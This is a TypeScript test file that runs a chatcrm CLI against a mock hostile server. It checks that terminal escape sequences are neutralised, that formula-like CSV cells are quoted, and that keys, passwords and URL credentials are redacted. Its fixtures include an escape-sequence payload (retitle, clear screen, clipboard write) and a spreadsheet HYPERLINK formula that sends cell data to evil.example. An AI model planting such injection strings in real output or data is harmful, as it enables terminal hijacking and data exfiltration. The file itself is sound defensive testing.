// Trust no server (issue #10, items 1 and 7): what a hostile server says can neither drive the
// terminal (title, clear screen, clipboard, 8-bit CSI) nor make the CLI print a secret, in any
// human output path; json/jsonl/yaml stay exact.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ServerResponse } from 'node:http';
import { execa } from 'execa';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse as parseYaml } from 'yaml';
import { BIN, HANG_MS, cleanEnv, runCli, tempDir, type RunOptions, describeWith } from '../helpers/cli.js';
import { startHostile, type HostileServer } from '../helpers/hostile-server.js';

const KEY = 'hostile-key-7c1e9a4b2d6f8e03';
// Retitle the terminal, clear the screen, write the clipboard (OSC 52), 8-bit CSI.
const EVIL = 'A\u001b]0;pwned\u0007B\u001b[2JC\u001b]52;c;aGVsbG8=\u0007D\u009b31mE\rF';
// Raw ESC, BEL, CR, every other C0 but newline and tab, DEL and C1.
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let srv: HostileServer;
beforeAll(async () => {
  srv = await startHostile();
});
afterAll(() => srv.close());
beforeEach(() => {
  srv.received.length = 0;
});

const json = (res: ServerResponse, status: number, body: unknown) => {
  res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
};

const run = (args: string[], opts: RunOptions = {}) =>
  runCli(args, { ...opts, env: { CHATCRM_BASE_URL: srv.url, CHATCRM_API_KEY: KEY, ...opts.env } });

function inert(r: { stdout: string; stderr: string }) {
  expect(r.stdout).not.toMatch(RAW_CONTROL);
  expect(r.stderr).not.toMatch(RAW_CONTROL);
}

describe('server text cannot drive the terminal', () => {
  const records = [{ _id: 't1', name: EVIL, color: '#FF0000' }];
  beforeEach(() => srv.route('GET /api/tags', (_q, res) => json(res, 200, { success: true, data: records })));

  it('table (plain) and csv show the controls as visible escapes', async () => {
    for (const fmt of ['table', 'csv']) {
      const r = await run(['tags', 'list', '-o', fmt]);
      expect(r.exitCode).toBe(0);
      inert(r);
      expect(r.stdout).toContain('\\x1b]0;pwned\\x07');
      expect(r.stdout).toContain('\\x9b31m');
    }
  });

  it('--json, jsonl and yaml stay exact (and escaped)', async () => {
    const j = await run(['tags', 'list', '--json']);
    inert(j);
    expect(JSON.parse(j.stdout)).toEqual(records);
    const l = await run(['tags', 'list', '-o', 'jsonl']);
    inert(l);
    expect(JSON.parse(l.stdout)).toEqual(records[0]);
    const y = await run(['tags', 'list', '-o', 'yaml']);
    inert(y);
    expect(parseYaml(y.stdout)).toEqual(records);
  });

  it('an error message: visible escapes on stderr; exact in the --json error', async () => {
    srv.route('GET /api/tags', (_q, res) => json(res, 400, { success: false, message: EVIL }));
    const r = await run(['tags', 'list']);
    expect(r.exitCode).toBe(5);
    inert(r);
    expect(r.stderr).toContain('\\x1b[2J');
    const j = await run(['tags', 'list', '--json']);
    expect(j.exitCode).toBe(5);
    inert(j);
    expect(JSON.parse(j.stderr).error.message).toContain(EVIL.replace('\rF', ''));
  });

  it('a success message (the ✓ line)', async () => {
    srv.route('POST /api/tags', (_q, res) => json(res, 201, { success: true, message: EVIL, data: { _id: 't2', name: 'vip' } }));
    const r = await run(['tags', 'create', '--name', 'vip', '--color', '#FF0000']);
    expect(r.exitCode).toBe(0);
    inert(r);
    expect(r.stderr).toContain('✓ A\\x1b]0;pwned');
  });

  it('whoami and doctor show the user the server names', async () => {
    srv.route('GET /api/auth/profile', (_q, res) => json(res, 200, { success: true, user: { id: 'u1', name: EVIL, email: `${EVIL}@example.com`, role: 'admin' } }));
    srv.route('GET /healthz', (_q, res) => json(res, 200, { status: EVIL }));
    srv.route('GET /api/subscription/my-subscription', (_q, res) => json(res, 200, { success: true, data: { plan: { name: EVIL, features: [EVIL] } } }));
    const w = await run(['whoami']);
    expect(w.exitCode).toBe(0);
    inert(w);
    expect(w.stdout).toContain('A\\x1b]0;pwned');
    const d = await run(['doctor']);
    inert(d);
    expect(d.stdout).toContain('A\\x1b]0;pwned');
  });

  it('MCP tool descriptions and tool results', async () => {
    srv.route('POST /mcp', (req, res, body) => {
      const rpc = JSON.parse(body) as { id?: number; method: string };
      if (rpc.id === undefined) return void res.writeHead(202).end();
      const result =
        rpc.method === 'tools/list'
          ? { tools: [{ name: 'evil_tool', description: EVIL, inputSchema: { type: 'object', properties: { q: { type: 'string', description: EVIL } } } }] }
          : rpc.method === 'tools/call'
            ? { content: [{ type: 'text', text: EVIL }, { type: 'text', text: JSON.stringify({ note: EVIL }) }] }
            : {};
      json(res, 200, { jsonrpc: '2.0', id: rpc.id, result });
    });
    const t = await run(['mcp', 'tools']);
    expect(t.exitCode).toBe(0);
    inert(t);
    expect(t.stdout).toContain('evil_tool');
    const c = await run(['mcp', 'call', 'evil_tool', '--arg', 'q=x']);
    expect(c.exitCode).toBe(0);
    inert(c);
    expect(c.stdout).toContain('A\\x1b]0;pwned');
    const cj = await run(['mcp', 'call', 'evil_tool', '--arg', 'q=x', '--json']);
    inert(cj);
    expect(cj.stdout).toContain('\\u001b]0;pwned');
  });
});

describe('CSV cells a spreadsheet would evaluate get a leading quote', () => {
  const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1', '-2', '@x', '=1+1'];

  it('-o csv of records named like formulas; numbers stay numbers', async () => {
    srv.route('GET /api/tags', (_q, res) => json(res, 200, { success: true, data: FORMULAS.map((name, i) => ({ _id: `t${i}`, name, usage: -i })) }));
    const r = await run(['tags', 'list', '-o', 'csv', '--fields', '_id,name,usage']);
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toBe('');
    const rows = parseCsv(r.stdout) as string[][];
    expect(rows[0]).toEqual(['_id', 'name', 'usage']);
    expect(rows.slice(1)).toEqual(FORMULAS.map((name, i) => [`t${i}`, `'${name}`, String(-i)]));
    expect(srv.received.map((q) => `${q.method} ${q.path}`)).toEqual(['GET /api/tags']);
  });

  it('the batch results file: an error text from the server that starts a formula', async () => {
    srv.route('POST /api/v2/chat/messages', (_q, res) => json(res, 400, { success: false, message: FORMULAS[0] }));
    const dir = tempDir('chatcrm-csv-');
    const input = join(dir, 'rows.csv');
    writeFileSync(input, 'to\n15550000001\n');
    const results = join(dir, 'results.csv');
    const r = await run(['chat', 'send-batch', input, '--sender', 'wa_snd_1', '--text', 'hi', '--results', results, '--json']);
    expect(r.exitCode).toBe(5);
    expect(JSON.parse(r.stdout)).toMatchObject({ rows: 1, failed: 1 });
    expect(parseCsv(readFileSync(results, 'utf8'))).toEqual([
      ['row', 'to', 'status', 'message_id', 'error'],
      ['1', '15550000001', 'failed', '', `'${FORMULAS[0]} (HTTP 400)`],
    ]);
    expect(srv.received.filter((q) => q.method === 'POST').map((q) => `${q.path} ${q.body}`)).toEqual(['/api/v2/chat/messages {"sender_id":"wa_snd_1","to":"15550000001","message":{"type":"text","text":{"body":"hi"}}}']);
  });
});

describeWith('script', existsSync('/usr/bin/script'), 'on a terminal, with colour', () => {
  /** stdout and stderr merged, as a terminal shows them (`script` gives the CLI a pseudo-terminal). */
  async function onTty(args: string[]) {
    const cmd = ['node', BIN, ...args].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
    const env = cleanEnv({ CHATCRM_BASE_URL: srv.url, CHATCRM_API_KEY: KEY, FORCE_COLOR: '1', COLUMNS: '120' });
    const r = await execa('script', ['-qec', `stty cols 120 rows 40; ${cmd}`, '/dev/null'], { env, extendEnv: false, reject: false, timeout: HANG_MS });
    return { output: String(r.stdout), exitCode: r.exitCode };
  }
  // Only the colours we draw ourselves: SGR sequences, nothing else that starts with ESC; no BEL, no C1.
  // eslint-disable-next-line no-control-regex
  const onlyOurStyling = (text: string) => expect(text.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);

  it('the table keeps its bold header and shows the record name inert; the ✓ line and the error too', async () => {
    srv.route('GET /api/tags', (_q, res) => json(res, 200, { success: true, data: [{ _id: 't1', name: EVIL }] }));
    const t = await onTty(['tags', 'list']);
    expect(t.exitCode).toBe(0);
    onlyOurStyling(t.output);
    expect(t.output).toContain('\u001b[1m');
    expect(t.output).toContain('A\\x1b]0;pwned');
    srv.route('POST /api/tags', (_q, res) => json(res, 201, { success: true, message: EVIL, data: { _id: 't2' } }));
    const c = await onTty(['tags', 'create', '--name', 'vip', '--color', '#FF0000']);
    onlyOurStyling(c.output);
    expect(c.output).toContain('\u001b[32m✓\u001b[39m A\\x1b]0;pwned');
    srv.route('GET /api/tags', (_q, res) => json(res, 400, { success: false, message: EVIL }));
    const e = await onTty(['tags', 'list']);
    expect(e.exitCode).toBe(5);
    onlyOurStyling(e.output);
    expect(e.output).toContain('\u001b[31mError:\u001b[39m');
  });

  it('the export-status spinner shows server text inert, and never the key', async () => {
    let polls = 0;
    srv.route('GET /api/contacts/export/status/job1', (_q, res) =>
      json(res, 200, { success: true, data: ++polls < 3 ? { status: `processing ${EVIL} for ${KEY}`, progress: polls * 40 } : { status: 'completed', file_name: 'contacts.csv' } }),
    );
    const r = await onTty(['contacts', 'export-status', 'job1', '--wait', '--interval', '0.3']);
    expect(r.exitCode).toBe(0);
    // What ora draws (hide/show the cursor, go up a line or to column 1, erase the line) and our
    // colours; a raw ESC of the server's (clear screen, title, clipboard), a BEL or a C1 would remain.
    // eslint-disable-next-line no-control-regex
    const ours = r.output.replace(/\u001b\[(?:\?25[lh]|\d*[AGK]|[0-9;]*m)/g, '');
    // eslint-disable-next-line no-control-regex
    expect(ours).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
    expect(r.output).toContain('Export job1: processing A\\x1b]0;pwned\\x07B\\x1b[2JC');
    expect(r.output).toContain('(80%)');
    expect(r.output).not.toContain(KEY);
    expect(r.output).toContain('for ***');
    expect(srv.received.map((q) => q.path)).toEqual(Array(3).fill('/api/contacts/export/status/job1'));
  });
});

describe('secrets never reach the output', () => {
  const echo = `invalid key ${KEY} (send x-api-key: ${KEY})`;
  const seen = (r: { stdout: string; stderr: string }, secret: string) => {
    expect(r.stdout + r.stderr).not.toContain(secret);
    expect(r.stdout + r.stderr).not.toContain(secret.slice(0, 12));
  };

  it('a key echoed in an error, a --json error and a --verbose trace', async () => {
    srv.route('GET /api/tags', (_q, res) => json(res, 401, { success: false, message: echo, key: KEY }));
    for (const extra of [[], ['--json'], ['--verbose']]) {
      const r = await run(['tags', 'list', ...extra]);
      expect(r.exitCode).toBe(3);
      seen(r, KEY);
      expect(r.stderr).toContain('invalid key ***');
    }
    expect(srv.received[0].headers['x-api-key']).toBe(KEY);
  });

  it('a key echoed in a success message and in the result', async () => {
    srv.route('POST /api/tags', (_q, res) => json(res, 201, { success: true, message: `created for ${KEY}`, data: { _id: 't2', name: KEY } }));
    for (const extra of [[], ['--json']]) {
      const r = await run(['tags', 'create', '--name', 'vip', '--color', '#FF0000', ...extra]);
      expect(r.exitCode).toBe(0);
      seen(r, KEY);
    }
  });

  it('a stored key echoed back is scrubbed too', async () => {
    const { writeFileSync, mkdirSync } = await import('node:fs');
    const { tempDir } = await import('../helpers/cli.js');
    const dir = tempDir();
    mkdirSync(dir, { recursive: true, mode: 0o700 });
    writeFileSync(`${dir}/credentials.json`, JSON.stringify({ profiles: { default: KEY } }), { mode: 0o600 });
    srv.route('GET /api/tags', (_q, res) => json(res, 400, { success: false, message: echo }));
    const r = await runCli(['tags', 'list'], { configDir: dir, env: { CHATCRM_BASE_URL: srv.url } });
    expect(r.exitCode).toBe(5);
    seen(r, KEY);
  });

  it('a password and the webhook secret echoed in errors', async () => {
    const password = 'correct-horse-battery-staple';
    srv.route('POST /api/auth/login', (_q, res, body) => json(res, 400, { success: false, message: `wrong password ${(JSON.parse(body) as { password: string }).password}` }));
    const p = await run(['auth', 'login', '--identifier', 'ada@example.com', '--password-stdin'], { input: `${password}\n` });
    expect(p.exitCode).toBe(5);
    seen(p, password);
    expect(p.stderr).toContain('wrong password ***');

    const secret = 'whsec-0f1e2d3c4b5a69788796';
    srv.route('POST /webhook/chat', (_q, res) => json(res, 403, { success: false, message: `signature does not match secret ${secret}` }));
    const w = await run(['webhook', 'send', '--event', 'message', '--from', '15557654321', '--text', 'Hi', '--json'], { env: { CHATCRM_WEBHOOK_SECRET: secret } });
    expect(w.exitCode).toBe(3);
    seen(w, secret);
  });

  it('URL userinfo is redacted in --verbose, --dry-run, whoami and errors (the password alone in whoami --json)', async () => {
    const pass = 'userinfo-pass-93jd02';
    const base = srv.url.replace('http://', `http://ada:${pass}@`);
    srv.route('GET /api/auth/profile', (_q, res) => json(res, 200, { success: true, user: { id: 'u1', name: 'Ada' } }));
    srv.route('GET /api/tags', (_q, res) => json(res, 500, { success: false, message: `upstream ${base}/api/tags failed; db https://bob:db-pass-7781@db.internal/x down` }));
    for (const args of [['whoami'], ['whoami', '--json'], ['whoami', '--verbose'], ['tags', 'list', '--dry-run'], ['tags', 'list', '--dry-run', '--json'], ['tags', 'list', '--retries', '0']]) {
      const r = await run([...args, '--base-url', base]);
      seen(r, pass);
      // A dry run shows the request as it would go out, and userinfo is never sent (the client
      // drops it); text shows the configured address with its userinfo redacted; data (--json on
      // stdout) is exact but for the CLI's own secrets: the password, never the user name.
      if (args.includes('--dry-run')) expect(r.stdout).toContain(`${srv.url}/api/tags`);
      else if (args.includes('--json')) expect(JSON.parse(r.stdout).base_url).toBe(base.replace(pass, '***'));
      else expect(r.stdout + r.stderr).toContain('//***@127.0.0.1');
    }
    const e = await run(['tags', 'list', '--retries', '0', '--json']);
    expect(e.exitCode).toBe(7);
    seen(e, 'db-pass-7781');
    expect(JSON.parse(e.stderr).error.message).toContain('https://***@db.internal/x');
  });
});
